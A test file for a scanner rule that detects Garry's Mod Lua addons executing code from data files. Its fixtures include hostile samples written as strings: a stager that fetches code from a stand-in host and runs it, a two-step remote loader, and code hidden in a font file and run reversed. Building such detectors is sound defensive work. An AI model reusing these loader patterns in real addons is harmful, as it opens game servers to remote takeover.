// Valid and invalid cases of the `datafile_execution` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './datafile_execution.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('datafile_execution', () => {
  it('data file executed', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("Initialize", "x", function() local s = file.Read("xlib/cache.dat", "DATA") if s then RunString(s) end end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('stager appended to a data file', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'file.Append("other/boot.txt", "http.Fetch(\\"https://a.invalid\\", function(b) RunString(b) end)")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('a data file that anyone can write through the addon, run at boot', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'if file.Exists("pad/saved.txt", "DATA") then RunString(file.Read("pad/saved.txt", "DATA")) end',
        'util.AddNetworkString("pad_save")',
        'net.Receive("pad_save", function(l, ply) file.Write("pad/saved.txt", net.ReadString()) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("the owner's settings file: written only as a template, or only by a superadmin", () => {
    for (const code of [
      // a template the addon writes for the owner to edit
      [
        'local name = "myaddon/whitelist.txt"',
        'local code = file.Read(name, "DATA")',
        'if code and code ~= "" then local f = CompileString(code, name, false) if isfunction(f) then f() end',
        'else file.Write(name, "-- Add your own entries here.\\n") end',
      ].join('\n'),
      // an editor only a superadmin can save from
      [
        'if file.Exists("pad/saved.txt", "DATA") then RunString(file.Read("pad/saved.txt", "DATA")) end',
        'util.AddNetworkString("pad_save")',
        'net.Receive("pad_save", function(l, ply)',
        ' if not ply:IsSuperAdmin() then return end',
        ' file.Write("pad/saved.txt", net.ReadString())',
        'end)',
      ].join('\n'),
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(findings.length).toBeGreaterThan(0);
      expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
    }
  });
  it('shipped Lua config compiled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local src = file.Read("myaddon/config.lua", "LUA")\nlocal f = CompileString(src, "cfg", false)\nif isfunction(f) then f() end',
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('saved data compiled as a table literal behind "return "', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'function LoadInventory(ply)',
        ' local s = file.Read("inventory/" .. ply:SteamID64() .. ".txt", "DATA")',
        ' if not s or not s:match("^{[%w%s%[%]\\"_=,]*}$") then return end',
        ' local fn = CompileString("return " .. s, "inventory", false)',
        ' ply.Inventory = isfunction(fn) and fn() or {}',
        'end',
        'hook.Add("PlayerInitialSpawn", "inv", LoadInventory)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('code read out of a font the addon ships, reversed, and run', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Simple(0, function()',
        '  local raw = file.Read("resource/fonts/hud.ttf", "GAME")',
        '  RunString(raw:sub(2013):reverse(), "font")',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('settings shipped as a Lua text file, run at start (not critical)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local cfg = file.Read("data_static/myaddon/settings.txt", "GAME")\nif cfg then RunString(cfg, "settings") end',
    });
    expect(worst(findings)).toBeLessThan(RANK.critical);
  });
  it('a web reply stored in the very file another file runs: remote code in two steps', () => {
    const files = (loaded: string) => ({
      'lua/autorun/server/sv_fetch.lua':
        'http.Fetch("https://updates.invalid/mod.txt", function(b) file.Write("mod_cache.txt", b) end)',
      'lua/autorun/server/sv_load.lua': `timer.Simple(20, function() local c = file.Read("${loaded}", "DATA") if c then RunString(c) end end)`,
    });
    const staged = check(rule, files('mod_cache.txt'));
    expect(worst(staged)).toBe(RANK.critical);
    const write = staged.find((f) => f.file === 'lua/autorun/server/sv_fetch.lua')!;
    expect(write.techniques).toEqual(['GB-001', 'GB-009']);
    // The loader runs another file: the cached reply is not what runs (high, as before).
    const apart = check(rule, files('plugins.txt'));
    expect(worst(apart)).toBe(RANK.high);
  });
  /**
   * Boot code shipped in data_static/, read through a helper of a file with nothing watched
   * (loaded by the game, not included here) defined on a local table of the same name stored
   * as `Cfg.Text` (`function Text.Strip`), then given to `use`.
   */
  const bootThroughHelper = (use: string): Record<string, string> => ({
    'data_static/cfg/boot.txt': '-- boot\nprint("booted")',
    'lua/cfg/sh_text.lua': [
      'local Text = {}',
      'Cfg = Cfg or {}',
      'Cfg.Text = Text',
      'function Text.Strip(s)',
      ' return (string.gsub(s, "^%-%-[^\\n]*\\n", ""))',
      'end',
    ].join('\n'),
    'lua/autorun/server/sv_cfg.lua': [
      'Cfg = Cfg or {}',
      'hook.Add("Initialize", "cfg", function()',
      ' local code = Cfg.Text.Strip(file.Read("data_static/cfg/boot.txt", "GAME") or "")',
      use,
      'end)',
    ].join('\n'),
  });
  it("a shipped data file's text run after a helper of a quiet file strips it", () => {
    expect(
      worst(check(rule, bootThroughHelper(' RunString(code, "boot")'))),
    ).toBeGreaterThanOrEqual(RANK.high);
  });
  it('the same text only printed (no finding)', () => {
    expect(check(rule, bootThroughHelper(' print(code)'))).toEqual([]);
  });
  it("another language's source with English words like HTTP copied into data/ for its editor (no finding)", () => {
    const chip = [
      '@name Weather',
      '# Needs E2 HTTP (wire_expression2_http 1) on the server.',
      'if (first()) { runOnHTTP(1) }',
      'if (httpClk()) { print(httpData()) }',
    ].join('\n');
    const findings = check(rule, {
      'data_static/chips/weather.txt': chip,
      'lua/autorun/client/cl_x.lua': [
        'hook.Add("InitPostEntity", "chips", function()',
        '  file.CreateDir("expression2/examples")',
        '  file.Write("expression2/examples/weather.txt", file.Read("data_static/chips/weather.txt", "GAME") or "")',
        `  file.Write("expression2/examples/readme.txt", ${JSON.stringify(chip)})`,
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
});
